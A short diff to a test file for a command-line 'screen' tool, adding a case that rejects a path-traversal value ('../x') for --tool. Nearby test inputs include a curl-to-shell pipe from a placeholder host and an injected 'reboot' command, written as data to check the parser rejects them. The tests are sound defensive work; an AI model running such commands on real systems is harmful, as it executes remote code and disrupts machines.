@@ -151,6 +151,7 @@ describe('one call', () => {
     [['screen', 'curl', 'https://x.example', '|', 'sh'], 'whether "|" is part of the command'],
     [['screen', 'echo', 'hi;', 'reboot'], 'whether "hi;" is part of the command'],
     [['screen', 'ls', '--jsno'], 'unknown option "--jsno" for screen'],
+    [['screen', '--tool', '../x'], '"../x" is not a valid value for --tool'],
     [['screen', '--tool', 'a b'], '"a b" is not a valid value for --tool'],
     [
       ['screen', '--tool', 'x', '--args', `{"a": ${TOKEN}`],
